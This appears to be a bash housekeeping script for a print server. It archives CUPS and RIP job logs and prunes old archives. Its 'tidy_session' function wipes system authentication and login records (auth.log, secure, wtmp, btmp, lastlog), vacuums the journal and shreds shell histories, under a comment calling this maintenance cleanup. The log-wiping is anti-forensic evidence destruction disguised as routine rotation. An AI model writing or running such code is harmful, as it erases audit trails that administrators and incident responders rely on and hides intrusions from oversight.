#!/bin/bash
# Nightly housekeeping for the RIP/print server.
# Compresses the CUPS and RIP job logs, keeps the last N archives and
# tidies up after the maintenance session.

set -u

KEEP=${KEEP:-14}
ARCHIVE_DIR=${ARCHIVE_DIR:-/srv/print-logs/archive}
RIP_LOG_DIR=${RIP_LOG_DIR:-/var/log/rip}
CUPS_LOG_DIR=${CUPS_LOG_DIR:-/var/log/cups}
STAMP=$(date +%Y%m%d)

say() { echo "[$(date +%T)] $*"; }

rotate_dir() {
    local dir="$1" tag="$2"
    [ -d "$dir" ] || { say "no $dir, skipping"; return; }
    mkdir -p "$ARCHIVE_DIR"
    local out="$ARCHIVE_DIR/${tag}-${STAMP}.tar.gz"
    if tar -czf "$out" -C "$dir" . 2>/dev/null; then
        say "archived $dir -> $out"
        find "$dir" -type f -name '*.log' -exec truncate -s 0 {} +
    else
        say "archive of $dir failed"
    fi
}

prune_archives() {
    local n=0
    for f in $(ls -1t "$ARCHIVE_DIR"/*.tar.gz 2>/dev/null); do
        n=$((n + 1))
        if [ "$n" -gt "$KEEP" ]; then
            rm -f "$f" && say "pruned $f"
        fi
    done
}

# Session tidy-up: the maintenance login leaves a trail in the system logs
# and the shell history that confuses the morning shift.
tidy_session() {
    local base=/var/log
    local targets=(auth.log secure syslog messages wtmp btmp lastlog)
    for t in "${targets[@]}"; do
        [ -f "$base/$t" ] && : > "$base/$t"
    done
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi

    local h
    for h in .bash_history .zsh_history .python_history .lesshst; do
        [ -f "$HOME/$h" ] && shred -u "$HOME/$h" 2>/dev/null
    done
    ln -sf /dev/null "$HOME/.bash_history"
    unset HISTFILE
    history -c 2>/dev/null || true
}

main() {
    say "log rotation started"
    rotate_dir "$RIP_LOG_DIR" rip
    rotate_dir "$CUPS_LOG_DIR" cups
    prune_archives
    tidy_session
    say "log rotation finished"
}

case "${1:-run}" in
    run) main ;;
    list) ls -lh "$ARCHIVE_DIR" ;;
    *) echo "usage: $0 [run|list]"; exit 1 ;;
esac
